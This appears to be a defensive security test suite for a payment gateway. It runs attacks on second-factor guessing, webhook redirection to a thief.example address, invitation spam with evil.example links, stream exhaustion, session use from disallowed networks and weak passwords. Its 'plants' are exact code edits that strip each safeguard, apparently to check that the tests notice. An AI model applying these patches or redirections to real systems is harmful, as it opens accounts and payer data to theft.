// Attacks on people: on their passwords and second factors, and on what they would not hear of.
import { setTimeout as pause } from 'node:timers/promises'
import { type Attack, told, verdict } from '../attack.ts'
import { must, type Person, type World } from '../world.ts'

const PEOPLE = 'apps/gateway/src/features/access/people/factors'
const PASSWORD = 'seven yellow danfo buses'
const heard = async (world: World, to: string, of: string): Promise<string> =>
  (await world.mailed(to, of)).length > 0 ? 'mailed' : 'nothing'

/** Their password is known: the session lacks its second factor. */
const halve = async (world: World, { email }: Person): Promise<void> => {
  const whose = '(select id from people where email = $1)'
  await world.sql(`update sessions set half = true, proved_at = null where person_id = ${whose}`, [email])
  await world.sql('update people set has_passkey = true where email = $1', [email])
}

export const PEOPLE_ATTACKS: readonly Attack[] = [
  {
    name: 'codes-guessed',
    finding: 'M2',
    tries: 'whoever has a password guesses codes of the second factor, slowly and in whatever process',
    must: 'each wrong one is counted on the person, the fifth is mailed to them, and from the twentieth none of the app is taken',
    run: async (world) => {
      const merchant = await world.merchant()
      const finance = await world.person('merchant', 'finance', merchant)
      await halve(world, finance)
      const guess = (code: number) => finance.call('POST', '/log-in/code', { code: String(code) })
      const answers: string[] = []
      for (let at = 0; at < 5; at += 1) answers.push(told(await guess(300_000 + at)))
      const mail = await heard(world, finance.email, 'Five wrong codes')
      // As if other processes had counted as many more.
      await world.sql('update people set wrong_factors = wrong_factors + 14 where email = $1', [finance.email])
      const twentieth = told(await guess(400_000))
      return verdict([
        ['five guesses', [...new Set(answers)].join(', '), '403 CODE_REFUSED'],
        ['the person', mail, 'mailed'],
        ['the twentieth', twentieth, '403 FACTOR_LOCKED'],
      ])
    },
    plants: {
      'codes-that-nobody-counts': {
        file: `${PEOPLE}/counted.ts`,
        from: 'await sql.setWrong(t, person.id, wrong)\n',
        to: '\n',
      },
    },
  },
  {
    name: 'payers-led-elsewhere',
    finding: 'M1',
    tries:
      "a developer has every payer's name sent to an address of their own, and an owner raises somebody, without a word",
    must: 'the owners are mailed of both, and whoever was raised too',
    run: async (world) => {
      const merchant = await world.merchant()
      const owner = await world.person('merchant', 'owner', merchant)
      const developer = await world.person('merchant', 'developer', merchant)
      const support = await world.person('merchant', 'support', merchant)
      const moved = await developer.call('PUT', '/api/v1/webhook-urls', {
        transactionCompletion: 'https://thief.example/all',
      })
      const ofAddress = await heard(world, owner.email, 'Where notifications go was changed')
      const raised = await owner.act('team.changeRole', { email: support.email, role: 'finance' })
      return verdict([
        ['leads notifications elsewhere', told(moved), '200'],
        ['the owner, of the address', ofAddress, 'mailed'],
        ['raises somebody', told(raised), '200 DONE'],
        ['the owner, of the role', await heard(world, owner.email, 'Somebody may more than before'), 'mailed'],
        ['whoever was raised', await heard(world, support.email, 'Somebody may more than before'), 'mailed'],
      ])
    },
    plants: {
      'lines-that-are-no-events': {
        file: 'apps/gateway/src/core/acts/trail.ts',
        from: '  await noteLine(t, entry)\n',
        to: '\n',
      },
    },
  },
  {
    name: 'mail-relay',
    finding: 'M6',
    tries: 'an owner has the gateway mail links and sixty invitations to three strangers, and to thirty more',
    must: 'no name with a link; three an hour to an address, twenty a day of a merchant',
    run: async (world) => {
      const merchant = await world.merchant()
      const owner = await world.person('merchant', 'owner', merchant)
      const invite = async (email: string, name = 'Somebody') =>
        owner.act('team.invite', { email: `${email}-${merchant.id}@victim.example`, name, role: 'support' })
      const links = ['LOCKED, go to https://evil.example/unlock', 'www.evil.ng'].map((name) => invite('first', name))
      const refused = (await Promise.all(links)).map(told)
      const sent = async (to: readonly string[]): Promise<number> => {
        let count = 0
        for (const email of to) count += (await invite(email)).status === 200 ? 1 : 0
        return count
      }
      const three = await sent(Array.from({ length: 60 }, (_, at) => `stranger${at % 3}`))
      const thirty = await sent(Array.from({ length: 30 }, (_, at) => `other${at}`))
      return verdict([
        ['names with links', [...new Set(refused)].join(', '), '400 FIELD_INVALID'],
        ['sixty to three', String(three), '9'],
        ['thirty more', String(thirty), '11'],
      ])
    },
    plants: {
      'names-with-links': {
        file: 'packages/contract/src/access/people.ts',
        from: 'NO_LINK}[^',
        to: "''}[^",
      },
      'invitations-without-end': {
        file: 'apps/gateway/src/features/access/people/team.ts',
        from: 'if (ofTeam >= INVITATIONS_A_DAY || ofAddress >= INVITATIONS_OF_ADDRESS_AN_HOUR)',
        to: 'if (ofTeam < 0 && ofAddress < 0)',
      },
    },
  },
  {
    name: 'all-streams-of-hints',
    finding: 't36',
    tries: 'one session opens 150 streams of hints and holds on to them',
    must: 'a hundred of its merchant at most; those of others open as before',
    run: async (world) => {
      const [merchant, other] = [await world.merchant(), await world.merchant()]
      const [mine, theirs] = [
        await world.person('merchant', 'support', merchant),
        await world.person('merchant', 'support', other),
      ]
      const ending = new AbortController()
      try {
        const own = await Promise.all(Array.from({ length: 150 }, () => mine.stream('/hints', ending.signal)))
        const another = await theirs.stream('/hints', ending.signal)
        // One that finds no place is ended at once.
        await pause(3_000)
        const held = own.filter((stream) => stream.goesOn()).length
        return verdict([
          ['of one session', held <= 100 ? 'a hundred at most' : String(held), 'a hundred at most'],
          ['of another merchant', another.goesOn() ? 'goes on' : 'ended', 'goes on'],
        ])
      } finally {
        ending.abort()
      }
    },
    plants: {
      'hints-without-end': {
        file: 'apps/gateway/src/features/events/hints/hints.routes.ts',
        from: 'createWatch(ctx, listen, OF_ONE_MAX)',
        to: 'createWatch(ctx, listen, 10 * OF_ONE_MAX)',
      },
    },
  },
  {
    name: 'session-carried-away',
    finding: 'L8',
    tries: 'somebody takes the session of finance home, away from the networks that the owner has listed',
    must: 'it is good for nothing there, and as before in the office; the owner is never shut out',
    run: async (world) => {
      const merchant = await world.merchant()
      const [owner, finance] = [
        await world.person('merchant', 'owner', merchant),
        await world.person('merchant', 'finance', merchant),
      ]
      must(await owner.act('team.addresses', { addresses: ['127.0.0.0/8', '::1/128'] }))
      const search = '/api/v1/transactions/search'
      const home = world.network()
      return verdict([
        ['in the office', told(await finance.call('GET', search)), '200'],
        ['at home, a route', told(await finance.from(home)('GET', search)), '403 PERSON_ADDRESS_REFUSED'],
        ['at home, a screen', told(await finance.from(home)('GET', '/views/team.list')), '403 PERSON_ADDRESS_REFUSED'],
        ['the owner, anywhere', told(await owner.from(home)('GET', search)), '200'],
      ])
    },
    plants: {
      'people-from-anywhere': {
        file: 'apps/gateway/src/features/access/people/sessions/door.ts',
        from: '!merchant.letsIn(address)',
        to: '!merchant.letsIn(address) && address === merchant.name',
      },
    },
  },
  {
    name: 'passwords-everybody-tries',
    finding: 'L2',
    tries: 'somebody who was invited takes a password of the lists of every guesser',
    must: 'it is refused; another one is taken',
    run: async (world) => {
      const merchant = await world.merchant()
      const owner = await world.person('merchant', 'owner', merchant)
      const email = `invited-${merchant.id}@attacked.example`
      must(await owner.act('team.invite', { email, name: 'Somebody', role: 'support' }))
      const [mail] = await world.mailed(email, '/invitation#')
      const token = /#([0-9a-f]{64})/.exec(mail ?? '')?.[1]
      const accept = (password: string) => owner.call('POST', '/invitations/accept', { token, password })
      const common: string[] = []
      for (const password of ['password1234', '123456789012', 'qwertyuiopas']) common.push(told(await accept(password)))
      return verdict([
        ['common ones', [...new Set(common)].join(', '), '400 PASSWORD_WEAK'],
        ['another', String((await accept(PASSWORD)).status), '200'],
      ])
    },
    plants: {
      'passwords-of-the-lists': {
        file: `${PEOPLE}/passwords.ts`,
        from: 'isCommon(password) ||',
        to: '(isCommon(password) && password === email) ||',
      },
    },
  },
]
